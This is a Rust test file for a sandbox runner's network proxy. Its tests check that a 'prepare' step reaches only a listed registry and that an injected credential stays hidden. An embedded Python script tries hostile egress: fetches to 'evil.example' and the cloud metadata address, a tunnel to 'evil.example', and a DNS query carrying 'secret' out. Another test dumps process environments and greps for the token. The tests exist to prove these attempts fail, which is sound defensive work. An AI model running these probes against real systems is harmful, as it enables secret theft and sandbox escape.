//! `prepare` behind the proxy: the listed host is reached, nothing else is, and no credential is seen.

use super::support::{limits, run_in, sandbox, step, tree};
use super::validation::{Reader, plan};
use holdpoint_runner::agent::relay::behind_relay;
use holdpoint_runner::contract_check::Mismatch;
use holdpoint_runner::proxy::{Proxy, ProxySettings};
use holdpoint_runner::sandbox::{AGENT_PATH, Limits, ReadOnlyMount, Sandbox as _};
use holdpoint_runner::{ValidationPlan, run_baseline, validate};
use holdpoint_schemas::estate::{CredentialConfig, PrepareConfig, StepsConfig};
use holdpoint_schemas::event::NoEvents;
use holdpoint_schemas::evidence::{Check, EvidenceRecord, StepEnd, Verdict};
use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::mpsc::{Receiver, channel};
use tokio_rustls::rustls::pki_types::PrivateKeyDer;
use tokio_rustls::rustls::{ServerConfig, ServerConnection, StreamOwned};

const SECRET: &str = "s3cret-t0ken-of-the-registry";

/// What a hostile `prepare` would try, each with its own way past the proxy; prints what worked.
const TRIES: &str = r#"
import os, socket, sys, urllib.request
origin, port = sys.argv[1], int(sys.argv[1].rsplit(":", 1)[1])

def works(name, attempt):
    try:
        attempt()
    except Exception as error:
        print(name, "failed:", error)
    else:
        print("WORKED", name)

def fetch(url):
    return lambda: urllib.request.urlopen(url, timeout=20).read()

def raw(authority, first):
    def attempt():
        proxy = os.environ["http_proxy"].removeprefix("http://").split(":")
        with socket.create_connection((proxy[0], int(proxy[1])), 20) as stream:
            stream.sendall(f"CONNECT {authority} HTTP/1.1\r\n\r\n".encode())
            answer = stream.recv(4096)
            assert b" 200 " in answer, answer
            stream.sendall(first)
            assert stream.recv(4096)
    return attempt

def datagram():
    query = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(query, ("1.1.1.1", 53))
        sock.recv(512)

works("listed", fetch(f"http://{origin}/package"))
works("other host", fetch("http://evil.example/"))
works("metadata", fetch("http://169.254.169.254/latest/meta-data/"))
works("other name", fetch(f"http://localhost:{port}/"))
works("other port", fetch("http://127.0.0.1:22/"))
works("tunnel elsewhere", raw("evil.example:443", b""))
works("plain bytes in a tunnel", raw(origin, b"GET / HTTP/1.1\r\n\r\n"))
works("directly", lambda: socket.create_connection(("127.0.0.1", port), 5))
works("the world", lambda: socket.create_connection(("1.1.1.1", 443), 5))
works("the host", lambda: socket.create_connection(("172.17.0.1", port), 5))
works("look-up", lambda: socket.getaddrinfo("secret.evil.example", 80))
works("datagram", datagram)
"#;

fn answer(mut stream: impl Read + Write) -> String {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
        head.push(byte[0]);
    }
    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\npackage";
    let _ = stream.write_all(answer);
    let _ = stream.flush();
    String::from_utf8_lossy(&head).into_owned()
}

/// A registry on loopback: its authority, and the heads of the requests that reached it.
fn origin(serve: impl Fn(TcpStream) -> String + Send + 'static) -> (u16, Receiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (sender, heads) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            if sender.send(serve(stream)).is_err() {
                return;
            }
        }
    });
    (port, heads)
}

fn networked(prepare: &str, hosts: &[String], files: &[(&str, &str)]) -> ValidationPlan {
    let steps = StepsConfig {
        prepare: Some(prepare.to_owned()),
        build: Some("env; ls -l /holdpoint".to_owned()),
        test: None,
    };
    let mut plan = plan(&[Check::Build], steps, tree(files), tree(files));
    plan.prepare.hosts = hosts.to_vec();
    plan.contract.agent = env!("CARGO_BIN_EXE_holdpoint-replay-agent").into();
    plan
}

async fn run(plan: &ValidationPlan) -> EvidenceRecord {
    let judge = |_: usize, _: usize, _: &_| Vec::<Mismatch>::new();
    validate(&sandbox().await, plan, &Reader, &judge, &NoEvents)
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn prepare_reaches_the_listed_host_and_nothing_else() {
    let (port, heads) = origin(answer);
    let authority = format!("127.0.0.1:{port}");
    let command = format!("python3 tries.py {authority}");
    let plan = networked(&command, std::slice::from_ref(&authority), &[("tries.py", TRIES)]);
    let record = run_baseline(&sandbox().await, &plan, None, &Reader, &NoEvents)
        .await
        .unwrap()
        .record;
    let [prepare, build] = record.steps.as_slice() else {
        panic!("{:?}", record.steps);
    };
    assert_eq!(prepare.end, StepEnd::Exited { code: 0 }, "{}", prepare.tail);
    let worked: Vec<_> = prepare.tail.lines().filter(|line| line.starts_with("WORKED")).collect();
    assert_eq!(worked, ["WORKED listed"], "{}", prepare.tail);
    assert!(heads.recv().unwrap().starts_with("GET /package HTTP/1.1"));
    assert_eq!(record.hosts, [authority]);
    for refused in ["evil.example", "169.254.169.254", "127.0.0.1:22"] {
        let named = record
            .prepared
            .refused
            .iter()
            .any(|line| line.starts_with(&format!("`{refused}`")));
        assert!(named, "{:?}", record.prepared.refused);
    }
    for left in ["http_proxy", "proxy.sock"] {
        assert!(!build.tail.to_lowercase().contains(left), "{}", build.tail);
    }
}

fn tls_origin() -> (u16, Receiver<String>, Vec<u8>) {
    let made = rcgen::generate_simple_self_signed(["localhost".to_owned()]).unwrap();
    let key = PrivateKeyDer::try_from(made.signing_key.serialize_der()).unwrap();
    let provider = Arc::new(tokio_rustls::rustls::crypto::ring::default_provider());
    let config = ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![made.cert.der().clone()], key)
        .unwrap();
    let config = Arc::new(config);
    let (port, heads) = origin(move |stream| {
        let tls = ServerConnection::new(Arc::clone(&config)).unwrap();
        answer(StreamOwned::new(tls, stream))
    });
    (port, heads, made.cert.der().to_vec())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credential_reaches_the_registry_and_is_seen_nowhere_inside() {
    let (port, heads, certificate) = tls_origin();
    let authority = format!("localhost:{port}");
    let config = PrepareConfig {
        hosts: vec![authority.clone()],
        credentials: BTreeMap::from([(
            authority.clone(),
            CredentialConfig {
                header: "Authorization".to_owned(),
                env: "REGISTRY_TOKEN".to_owned(),
            },
        )]),
        scripts: false,
    };
    let settings = ProxySettings::new(&config, &|_| Some(format!("Bearer {SECRET}"))).unwrap();
    let proxy = Proxy::start(&settings.with_root(certificate)).unwrap();
    let look = format!(
        "python3 -c 'import urllib.request as u; r = u.urlopen(\"http://{authority}/p\"); print(r.headers, r.read())' \
         && env && cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/mountinfo | tr '\\0' '\\n' \
         && ls -lR /holdpoint /workspace /tmp && grep -rl 's3cret' /workspace /tmp /holdpoint /etc /run; true"
    );
    let mut spec = step(&behind_relay(&look));
    spec.proxy = Some(proxy.socket().to_owned());
    spec.mounts.push(ReadOnlyMount {
        host: env!("CARGO_BIN_EXE_holdpoint-replay-agent").into(),
        inside: AGENT_PATH.to_owned(),
    });
    spec.capture_bytes = 1 << 20;
    spec.limits = Limits {
        wall: std::time::Duration::from_secs(120),
        ..limits()
    };
    let sandbox = sandbox().await;
    let workspace = sandbox.workspace(&tree(&[("a.txt", "x")])).await.unwrap();
    let outcome = run_in(&sandbox, &workspace, &spec).await;
    sandbox.remove(workspace).await.unwrap();
    let seen = String::from_utf8_lossy(&outcome.captured).into_owned() + &outcome.tail;
    assert_eq!(outcome.end, StepEnd::Exited { code: 0 }, "{seen}");
    assert!(seen.contains("b'package'"), "{seen}");
    // The one occurrence is the command that looks for it.
    let seen = seen
        .replace("grep -rl 's3cret'", "")
        .replace("grep -rl '\\''s3cret'\\''", "");
    assert!(!seen.contains("s3cret") && !seen.contains("REGISTRY_TOKEN"), "{seen}");
    assert!(heads.recv().unwrap().contains(&format!("Bearer {SECRET}")));
    assert_eq!(proxy.report().reached, [authority]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_prepare_that_changes_a_lockfile_proves_nothing() {
    let files = [("package-lock.json", "{}\n"), ("web/yarn.lock", "# yarn\n")];
    let mut plan = networked("rm web/yarn.lock; echo >> package-lock.json", &[], &files);
    plan.steps.build = None;
    let build = &run(&plan).await.evidence.checks[&Check::Build];
    assert_eq!(build.verdict, Verdict::Inconclusive);
    assert!(
        build.reason.contains("`package-lock.json` on the baseline"),
        "{}",
        build.reason
    );
    assert!(build.reason.contains("`npm ci`"), "{}", build.reason);
    assert_eq!(build.details.len(), 2, "{build:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_step_that_asks_for_input_says_so() {
    let mut plan = networked("true", &[], &[("a.txt", "x")]);
    plan.steps.build = Some("python3 -c 'input(\"Continue? \")'".to_owned());
    let build = &run(&plan).await.evidence.checks[&Check::Build];
    assert_eq!(build.verdict, Verdict::Inconclusive);
    assert!(build.reason.ends_with("nobody is there to answer"), "{}", build.reason);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_registry_that_does_not_answer_is_tried_again_and_not_blamed_on_the_fix() {
    let taken = TcpListener::bind("127.0.0.1:0").unwrap();
    let authority = taken.local_addr().unwrap().to_string();
    drop(taken);
    let fetch = format!("python3 -c 'import urllib.request as u; u.urlopen(\"http://{authority}/\")'");
    let plan = networked(&fetch, &[authority], &[("a.txt", "x")]);
    let sandbox = sandbox().await;
    let baseline = run_baseline(&sandbox, &plan, None, &Reader, &NoEvents).await.unwrap();
    assert_eq!(baseline.record.prepared.retries, 2);
    assert_eq!(baseline.record.steps.len(), 1, "{:?}", baseline.record.steps);
    assert!(baseline.record.hosts.is_empty());
}
